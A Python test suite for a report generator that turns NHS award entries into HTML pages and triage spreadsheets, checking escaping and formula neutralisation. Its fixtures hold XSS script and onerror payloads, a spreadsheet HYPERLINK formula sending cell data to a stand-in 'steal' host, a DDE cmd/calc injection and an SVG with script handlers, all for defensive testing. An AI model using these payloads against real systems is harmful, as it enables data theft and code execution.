"""Reports: judge's pages, overview page, triage CSV/XLSX, built from hand-written entry dicts."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pipeline.reports import safe_cell, summary_markdown, triage_rows, write_reports
from pipeline.reports.highlight import highlight_paragraphs
from pipeline.rubric import load_rubric

SCRIPT = "<script>document.title='PWNED';document.body.setAttribute('data-pwned','script')</script>"
IMG = "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">"
HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click me")'


def section(text: str, *, heading: str | None = None, method: str = "heading", pages=(1,)) -> dict:
    return {"heading": heading, "text": text, "word_count": len(text.split()), "method": method, "pages": list(pages)}


def reviewed(entry_id: str, **overrides) -> dict:
    entry = {
        "entry_id": entry_id,
        "source": f"{entry_id}.pdf",
        "sha256": "ab" * 32,
        "status": "reviewed",
        "error": None,
        "rubric": "best-partnership-patient-safety",
        "format": "pdf",
        "pages": 4,
        "title": f"Safer discharge partnership {entry_id}",
        "organisation": "Northshire NHS Foundation Trust",
        "sections": {
            "context": section("Falls on our older people's wards were rising.\n\nThe partnership was needed to join up discharge.", heading="Context"),
            "evidence": section(
                "Falls with harm fell from 42 to 19 per 1,000 bed days over 12 months. "
                "Incident reporting rose by 35%.\nWe also audited notes.",
                heading="Evidence of improvement", pages=(2,),
            ),
            "spread": section("The bundle has been adopted by three other trusts in the region.", heading="Spread"),
            "value": section("Savings of £120,000 a year came from fewer fractures.", heading="Value", pages=(3,)),
            "stakeholders": section(
                "Patients and carers co-designed the leaflet in four workshops. "
                "Ward nurses and physiotherapists tested each version on the ward.",
                heading="Stakeholder involvement", pages=(3, 4),
            ),
        },
        "flags": [],
        "quantitative_claims": [
            {"criterion": "evidence", "sentence": "Falls with harm fell from 42 to 19 per 1,000 bed days over 12 months.",
             "measure": "falls with harm per 1,000 bed days", "baseline": "42", "after": "19", "change": None},
            {"criterion": "evidence", "sentence": "Incident reporting rose by 35%.",
             "measure": "incident reporting", "baseline": None, "after": None, "change": "+35%"},
        ],
        "stakeholders": {
            "patients": ["Patients and carers co-designed the leaflet in four workshops."],
            "staff": ["Ward nurses and physiotherapists tested each version on the ward."],
        },
        "partners": [
            {"name": "Northshire NHS Foundation Trust", "type": "nhs_trust", "role": "primary"},
            {"name": "Health Innovation Northshire", "type": "ahsn", "role": "partner"},
            {"name": "Northshire County Council", "type": "local_authority", "role": "partner"},
        ],
        "cluster": {"id": 1, "label": "falls, discharge, older people"},
        "near_duplicates": [],
    }
    entry.update(overrides)
    return entry


def not_reviewed(entry_id: str, source: str, status: str, code: str, message: str) -> dict:
    return {
        "entry_id": entry_id, "source": source, "sha256": "cd" * 32, "status": status,
        "error": {"code": code, "message": message}, "rubric": "best-partnership-patient-safety",
        "title": None, "organisation": None, "sections": {}, "flags": [], "quantitative_claims": [],
        "stakeholders": {"patients": [], "staff": []}, "partners": [], "cluster": None, "near_duplicates": [],
    }


def make_corpus() -> tuple[list[dict], dict, dict]:
    """A small corpus of every kind of entry, a clustering and a run summary."""
    full = reviewed("E001")
    gaps = reviewed(
        "E002",
        title="Medicines safety at home",
        organisation="Westvale Integrated Care Board",
        sections={
            **full["sections"],
            "spread": None,
            "value": None,
            "stakeholders": section("Pharmacists and district nurses were involved in every design meeting.", heading="Who was involved"),
        },
        flags=[
            {"code": "missing_section", "criterion": "spread", "message": "The entry does not say how the work was spread or shared.", "evidence": []},
            {"code": "missing_section", "criterion": "value", "message": "The entry does not describe the value created.", "evidence": []},
            {"code": "no_patient_involvement", "criterion": "stakeholders",
             "message": "No sentence says patients, carers or families took part.",
             "evidence": ["Pharmacists and district nurses were involved in every design meeting."]},
        ],
        stakeholders={"patients": [], "staff": ["Pharmacists and district nurses were involved in every design meeting."]},
        partners=[
            {"name": "Westvale Integrated Care Board", "type": "icb", "role": "primary"},
            {"name": "Westvale Community Pharmacy Group", "type": "primary_care", "role": "partner"},
        ],
        cluster={"id": 2, "label": "medicines, pharmacy, home"},
        near_duplicates=["E010"],
    )
    hostile = reviewed(
        "E003",
        title=HYPERLINK,
        organisation="@SUM(1+1)*cmd|' /C calc'!A0",
        sections={
            **full["sections"],
            "context": section(f"Our context {SCRIPT} and more {IMG} end.", heading=f"Context {SCRIPT}"),
            "evidence": section("Harm fell by 50% <b>after</b> the change & stayed low.", heading="Evidence"),
        },
        flags=[
            {"code": "no_quantitative_evidence", "criterion": "evidence", "message": f"No measured change {SCRIPT}",
             "evidence": [IMG]},
        ],
        quantitative_claims=[{"criterion": "evidence", "sentence": "Harm fell by 50% <b>after</b> the change & stayed low.",
                              "measure": SCRIPT, "baseline": None, "after": None, "change": None}],
        partners=[
            {"name": f"Evil Ltd {SCRIPT}", "type": "private", "role": "primary"},
            {"name": "-2+3", "type": "nhs_trust", "role": "partner"},
        ],
        cluster={"id": 1, "label": f"label {IMG}"},
    )
    ineligible = reviewed(
        "E007",
        title="Digital safety huddles",
        organisation="Acme Health Solutions Ltd",
        partners=[{"name": "Acme Health Solutions Ltd", "type": "private", "role": "primary"}],
        flags=[{"code": "ineligible", "criterion": None,
                "message": "No partner organisation is named, and the primary entrant is a private company.",
                "evidence": ["Acme Health Solutions Ltd delivered the programme."]}],
        cluster={"id": 2, "label": "medicines, pharmacy, home"},
    )
    twin = reviewed("E010", title="Medicines safety at home (resubmitted)", near_duplicates=["E002"],
                    cluster={"id": 2, "label": "medicines, pharmacy, home"})
    entries = [
        twin, hostile, full, gaps, ineligible,
        not_reviewed("E004", "E004.pdf", "rejected", "encrypted",
                     "E004.pdf is password-protected: ask the entrant for an unlocked copy."),
        not_reviewed("E005", "photos/E005.jpg", "skipped", "unsupported_format",
                     "E005.jpg is an image, not an entry: remove it from the folder or send the entry as PDF or Word."),
        not_reviewed("E006", "E006.pdf", "rejected", "no_text_layer",
                     "=E006.pdf has no text layer (a scan): ask the entrant for a PDF exported from Word."),
    ]
    clusters = {
        "clusters": [
            {"id": 1, "label": "falls, discharge, older people", "terms": ["falls", "discharge", "older people"],
             "members": ["E001", "E003"], "representative": "E001"},
            {"id": 2, "label": "medicines, pharmacy, home", "terms": ["medicines", "pharmacy", "home"],
             "members": ["E002", "E007", "E010"], "representative": "E002"},
        ],
        "near_duplicates": [
            {"a": "E002", "b": "E010", "semantic": 0.97, "shingle": 0.81,
             "shared_passages": ["Falls with harm fell from 42 to 19 per 1,000 bed days over 12 months."]},
        ],
    }
    run = {
        "counts": {"reviewed": 5, "rejected": 2, "skipped": 1},
        "flags": {"missing_section": 2, "no_patient_involvement": 1, "no_quantitative_evidence": 1, "ineligible": 1},
        "timings": {"per_stage_cpu": {"ingest": 1.5, "sections": 2.25}, "wall": {"clustering": 0.4}},
        "versions": {"entry-review": "0.1.0"},
        "rubric": {"id": "best-partnership-patient-safety", "name": "Best Partnership Solution Improving Patient Safety", "version": "1"},
        "started": "2025-03-01T09:00:00+00:00",
        "finished": "2025-03-01T09:04:10+00:00",
    }
    return entries, clusters, run


@pytest.fixture(scope="module")
def rubric():
    return load_rubric()


@pytest.fixture(scope="module")
def corpus():
    return make_corpus()


@pytest.fixture(scope="module")
def out(tmp_path_factory, rubric, corpus):
    out_dir = tmp_path_factory.mktemp("out")
    entries, clusters, run = corpus
    write_reports(out_dir, entries, rubric, clusters=clusters, run=run)
    return out_dir


def test_reports_writes_every_file(out, corpus):
    entries, _, _ = corpus
    reviewed_ids = sorted(e["entry_id"] for e in entries if e["status"] == "reviewed")
    assert sorted(p.stem for p in (out / "reports").glob("*.html")) == reviewed_ids
    for name in ("index.html", "triage.csv", "triage.xlsx"):
        assert (out / name).stat().st_size > 0


def test_reports_escape_entry_text_in_judge_report(out):
    page = (out / "reports" / "E003.html").read_text(encoding="utf-8")
    assert "<script>document.title" not in page
    assert "<img src=x" not in page and "<b>after</b>" not in page
    assert "&lt;script&gt;document.title=&#39;PWNED&#39;" in page
    assert "&lt;img src=x onerror=" in page
    assert "&lt;b&gt;after&lt;/b&gt; the change &amp; stayed low." in page
    # The only <script> elements are our own: none in a report.
    assert "<script" not in page


def test_reports_escape_entry_text_in_overview(out):
    page = (out / "index.html").read_text(encoding="utf-8")
    assert page.count("<script") == 1  # the sorting/filtering script, allowed by hash in the CSP
    assert "<img src=x" not in page
    assert "Evil Ltd" not in page or "Evil Ltd &lt;script&gt;" in page
    assert "label &lt;img src=x onerror=" in page
    assert "script-src 'sha256-" in page


def test_reports_highlight_is_escaped_before_marking():
    paragraphs = highlight_paragraphs(
        "Before. Harm fell by 50% <b>after</b> it.\nPatients <i>shaped</i> it.",
        {"quant": ["Harm fell by 50% <b>after</b> it."], "patients": ["Patients <i>shaped</i> it."], "staff": []},
    )
    assert [str(p) for p in paragraphs] == [
        'Before. <mark class="hl-quant">Harm fell by 50% &lt;b&gt;after&lt;/b&gt; it.</mark>',
        '<mark class="hl-patients">Patients &lt;i&gt;shaped&lt;/i&gt; it.</mark>',
    ]


def test_reports_highlight_tolerates_reflowed_sentences_and_overlaps():
    text = "Staff and patients\nco-designed the tool, cutting harm by 30%.\n\nNext paragraph."
    sentence = "Staff and patients co-designed the tool, cutting harm by 30%."
    paragraphs = [str(p) for p in highlight_paragraphs(text, {"quant": [sentence], "patients": [sentence], "staff": [sentence]})]
    assert paragraphs == [
        '<mark class="hl-quant hl-patients hl-staff">Staff and patients co-designed the tool, cutting harm by 30%.</mark>',
        "Next paragraph.",
    ]


def test_reports_judge_report_highlights_claims_and_involvement(out):
    page = (out / "reports" / "E001.html").read_text(encoding="utf-8")
    assert '<mark class="hl-quant">Falls with harm fell from 42 to 19 per 1,000 bed days over 12 months.</mark>' in page
    assert '<mark class="hl-quant">Incident reporting rose by 35%.</mark>' in page
    assert '<mark class="hl-patients">Patients and carers co-designed the leaflet in four workshops.</mark>' in page
    assert '<mark class="hl-staff">Ward nurses and physiotherapists tested each version on the ward.</mark>' in page
    # The legend names each colour.
    for label in ("Quantitative claim", "Patient involvement", "Staff involvement"):
        assert label in page
    # Paragraphs are kept.
    assert "<p>Falls on our older people&#39;s wards were rising.</p>" in page
    assert "<p>The partnership was needed to join up discharge.</p>" in page


def _summary_rows(page: str) -> dict[str, str]:
    summary = page.split('id="completeness"', 1)[1].split("</section>", 1)[0]
    return dict(re.findall(r'<tr class="is-\w+" data-criterion="(\w+)">(.*?)</tr>', summary, flags=re.S))


def test_reports_completeness_summary_shows_missing_criteria(out, rubric):
    rows = _summary_rows((out / "reports" / "E002.html").read_text(encoding="utf-8"))
    assert list(rows) == list(rubric.criterion_ids)
    for cid in ("spread", "value"):
        assert "badge missing" in rows[cid] and "Missing section" in rows[cid]
    for cid in ("context", "evidence", "stakeholders"):
        assert "badge present" in rows[cid]
    assert "No patient involvement" in rows["stakeholders"]
    assert "3 of 5 criteria addressed" in (out / "reports" / "E002.html").read_text(encoding="utf-8")


def test_reports_flag_reason_and_evidence_sit_with_their_section(out):
    page = (out / "reports" / "E002.html").read_text(encoding="utf-8")
    stakeholders = page.split('id="section-stakeholders"', 1)[1].split("</section>", 1)[0]
    assert "No sentence says patients, carers or families took part." in stakeholders
    assert "<blockquote>Pharmacists and district nurses were involved in every design meeting.</blockquote>" in stakeholders
    spread = page.split('id="section-spread"', 1)[1].split("</section>", 1)[0]
    assert "does not address this criterion" in spread
    assert "The entry does not say how the work was spread or shared." in spread


def test_reports_judge_report_shows_entrants_cluster_and_near_duplicates(out):
    page = (out / "reports" / "E002.html").read_text(encoding="utf-8")
    assert "Westvale Integrated Care Board" in page and "Integrated care board" in page
    assert "Westvale Community Pharmacy Group" in page and "Primary care" in page
    assert '<a href="../index.html#cluster-2">medicines, pharmacy, home</a>' in page
    assert '<a href="E010.html">E010</a>' in page
    ineligible = (out / "reports" / "E007.html").read_text(encoding="utf-8")
    assert 'id="entry-flags"' in ineligible and "the primary entrant is a private company" in ineligible


def test_reports_pages_are_self_contained_and_print_to_a4(out):
    for page_path in [out / "index.html", *sorted((out / "reports").glob("*.html"))]:
        page = page_path.read_text(encoding="utf-8")
        assert not re.search(r'(src|href)="(https?:)?//', page), page_path
        assert "@import" not in page and "<link" not in page
    report = (out / "reports" / "E001.html").read_text(encoding="utf-8")
    assert "@page { size: A4" in report and "@media print" in report
    assert re.search(r"\.summary[^{]*\{[^}]*break-inside: avoid", report)


def test_reports_triage_one_row_per_entry_in_all_statuses(rubric, corpus):
    entries, _, _ = corpus
    rows = triage_rows(entries, rubric)
    assert [r["entry_id"] for r in rows] == ["E001", "E002", "E003", "E004", "E005", "E006", "E007", "E010"]
    by_id = {r["entry_id"]: r for r in rows}
    assert by_id["E002"]["missing_section"] == "spread; value"
    assert by_id["E002"]["no_patient_involvement"] == "yes"
    assert by_id["E002"]["words_spread"] is None and by_id["E002"]["words_context"] > 0
    assert by_id["E002"]["partners"] == 1 and by_id["E001"]["partners"] == 2
    assert by_id["E002"]["near_duplicates"] == "E010"
    assert by_id["E001"]["report"] == "reports/E001.html"
    assert by_id["E004"]["status"] == "rejected" and by_id["E004"]["error_code"] == "encrypted"
    assert "unlocked copy" in by_id["E004"]["error_message"]
    assert by_id["E004"]["report"] == "" and by_id["E005"]["status"] == "skipped"
    assert by_id["E007"]["ineligible"] == "yes"
    assert by_id["E002"]["cluster"] == "medicines, pharmacy, home"


def test_reports_csv_has_header_one_row_per_entry_and_no_formulas(out, corpus):
    entries, _, _ = corpus
    with (out / "triage.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(entries)
    assert {"entry_id", "status", "error_code", "error_message", "title", "missing_section", "words_evidence",
            "cluster", "near_duplicates", "report"} <= set(rows[0])
    by_id = {r["entry_id"]: r for r in rows}
    assert by_id["E003"]["title"] == "'" + HYPERLINK
    assert by_id["E003"]["organisation"].startswith("'@")
    assert by_id["E006"]["error_message"].startswith("'=")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_reports_xlsx_neutralises_formulas_and_is_organised(out, corpus):
    entries, clusters, _ = corpus
    wb = load_workbook(out / "triage.xlsx")
    ws = wb["Triage"]
    header = [c.value for c in ws[1]]
    assert ws.max_row == len(entries) + 1
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref.startswith("A1:")
    rows = {r[0]: dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {e["entry_id"] for e in entries}
    assert rows["E003"]["title"] == "'" + HYPERLINK
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.coordinate
    # Report links are hyperlinks; flagged cells and not-reviewed rows are coloured by rules.
    report_col = header.index("report") + 1
    e001 = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "E001")
    assert ws.cell(e001, report_col).hyperlink.target == "reports/E001.html"
    rules = [(str(cf.sqref), rule.formula) for cf in ws.conditional_formatting for rule in cf.rules]
    assert any('"reviewed"' in f[0] for _, f in rules)
    missing_col = ws.cell(1, header.index("missing_section") + 1).column_letter
    assert any(sqref.startswith(missing_col) and "LEN" in f[0] for sqref, f in rules)
    assert ws.column_dimensions["A"].width >= 6
    clusters_ws = wb["Clusters"]
    assert [c.value for c in clusters_ws[1]][:3] == ["cluster_id", "label", "terms"]
    assert clusters_ws.max_row == len(clusters["clusters"]) + 1


def test_reports_output_is_deterministic(tmp_path, rubric, corpus):
    entries, clusters, run = corpus
    for name in ("a", "b"):
        write_reports(tmp_path / name, list(reversed(entries)) if name == "b" else entries, rubric, clusters=clusters, run=run)
    for path in sorted((tmp_path / "a").rglob("*")):
        if path.is_file():
            twin = tmp_path / "b" / path.relative_to(tmp_path / "a")
            assert path.read_bytes() == twin.read_bytes(), path.name
    with zipfile.ZipFile(tmp_path / "a" / "triage.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2025, 3, 1, 9, 0, 0)}


def test_reports_overview_lists_counts_problems_and_clusters(out):
    page = (out / "index.html").read_text(encoding="utf-8")
    assert re.search(r'id="count-reviewed">5<', page)
    assert re.search(r'id="count-rejected">2<', page)
    assert re.search(r'id="count-skipped">1<', page)
    assert page.count('<tr class="status-') == 8
    problems = page.split('id="problems"', 1)[1].split("</section>", 1)[0]
    assert "E004.pdf is password-protected: ask the entrant for an unlocked copy." in problems
    assert "photos/E005.jpg" in problems and "Unsupported format" in problems
    assert 'id="cluster-2"' in page and '<a href="reports/E010.html">E010</a>' in page
    assert '<a href="reports/E001.html">E001</a>' in page
    assert "per_stage_cpu · sections" in page and "2.2 s" in page


def test_reports_cluster_map_is_inlined_without_active_content(tmp_path, rubric, corpus):
    entries, clusters, run = corpus
    (tmp_path / "cluster_map.svg").write_text(
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200pt" height="100pt" '
        'viewBox="0 0 200 100" onload="alert(1)">'
        '<style>body{display:none}</style><script>alert(2)</script>'
        '<g id="entry-E001"><title>E001: &lt;script&gt;x&lt;/script&gt;</title>'
        '<circle cx="10" cy="10" r="5" clip-path="url(#c1)" onclick="alert(3)"/></g>'
        '<a xlink:href="javascript:alert(4)"><text x="1" y="1">E001</text></a>'
        '<image href="http://example.invalid/x.png"/></svg>',
        encoding="utf-8",
    )
    write_reports(tmp_path, entries, rubric, clusters=clusters, run=run)
    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    svg = page[page.index("<svg"): page.index("</svg>")]
    assert 'class="cluster-map"' in svg and 'viewBox="0 0 200 100"' in svg
    assert "<circle" in svg and 'clip-path="url(#c1)"' in svg
    assert "<title>E001: &lt;script&gt;x&lt;/script&gt;</title>" in svg
    for bad in ("alert", "<script", "<style", "onload", "onclick", "javascript:", "<image", "ns0:"):
        assert bad not in svg, bad


def test_reports_without_clusters_or_map(tmp_path, rubric, corpus):
    entries, _, run = corpus
    write_reports(tmp_path, entries, rubric, clusters=None, run={})
    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    assert "No clustering for this run." in page and "<svg" not in page
    assert load_workbook(tmp_path / "triage.xlsx")["Clusters"].max_row == 1


def test_reports_summary_markdown_counts_and_places(out, corpus):
    entries, clusters, run = corpus
    text = summary_markdown(entries, run, clusters, out)
    assert "| reviewed | 5 |" in text and "| rejected | 2 |" in text and "| skipped | 1 |" in text
    assert "(`missing_section`) | 1 |" in text and "(`ineligible`) | 1 |" in text
    assert "medicines, pharmacy, home" in text and "E002, E007, E010" in text
    assert str(out / "index.html") in text and "triage.xlsx" in text
    assert "E004.pdf is password-protected" in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (5, 5), (-5, -5), (None, None), ("a\x00b", "ab")],
)
def test_reports_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_reports_html_unescapes_to_original_title(out):
    page = (out / "reports" / "E003.html").read_text(encoding="utf-8")
    h1 = re.search(r'<h1 id="entry-title">(.*?)</h1>', page, flags=re.S).group(1)
    assert html.unescape(h1) == HYPERLINK


def test_reports_accept_minimal_entries_and_new_flag_codes(tmp_path, rubric):
    minimal = {"entry_id": "M1", "source": "M1.docx", "status": "reviewed",
               "sections": {"context": section("Only context."), "evidence": None},
               "flags": [{"code": "thin_section", "criterion": "context", "message": "Context has 2 words.", "evidence": []},
                         {"code": "duplicate_id", "criterion": None, "message": "Second file named M1.", "evidence": []}]}
    bare = {"entry_id": "M2", "source": "M2.txt", "status": "skipped", "error": {"code": "unsupported_format", "message": "A note."}}
    write_reports(tmp_path, [minimal, bare], rubric, clusters=None, run={})
    with (tmp_path / "triage.csv").open(encoding="utf-8", newline="") as f:
        rows = {r["entry_id"]: r for r in csv.DictReader(f)}
    assert rows["M1"]["thin_section"] == "context" and rows["M1"]["duplicate_id"] == "yes"
    assert rows["M2"]["thin_section"] == "" and rows["M2"]["status"] == "skipped"
    page = (tmp_path / "reports" / "M1.html").read_text(encoding="utf-8")
    assert "Thin section" in page and "Context has 2 words." in page
    assert 'id="entry-flags"' in page and "Second file named M1." in page
    assert "No partner organisation identified" in page
    assert "1 of 5 criteria addressed" in page


def test_reports_entry_summaries_give_the_same_overview_as_whole_entries(tmp_path, out, corpus):
    """A large run keeps only entry_summary of each entry for the overview and triage files: they
    must come out as from the whole entries, byte for byte."""
    from pipeline.reports import ReportWriter, entry_summary

    entries, clusters, run = corpus
    rubric = load_rubric()
    summaries = [entry_summary(e) for e in entries]
    assert all("quantitative_claims" not in s and not any("text" in (c or {}) for c in (s.get("sections") or {}).values())
               for s in summaries)
    assert triage_rows(summaries, rubric) == triage_rows(entries, rubric)
    assert summary_markdown(summaries, run, clusters, out) == summary_markdown(entries, run, clusters, out)

    whole, streamed = tmp_path / "whole", tmp_path / "streamed"
    write_reports(whole, entries, rubric, clusters=clusters, run=run)
    writer = ReportWriter(streamed, rubric, clusters=clusters, titles={e["entry_id"]: e.get("title") for e in entries},
                          reviewed_ids={e["entry_id"] for e in entries if e["status"] == "reviewed"})
    for entry in reversed(entries):
        writer.add(entry)
    writer.finish(run)
    names = sorted(p.relative_to(whole).as_posix() for p in whole.rglob("*") if p.is_file())
    assert names == sorted(p.relative_to(streamed).as_posix() for p in streamed.rglob("*") if p.is_file())
    assert "index.html" in names and "triage.xlsx" in names and any(n.startswith("reports/") for n in names)
    for name in names:
        assert (whole / name).read_bytes() == (streamed / name).read_bytes(), name
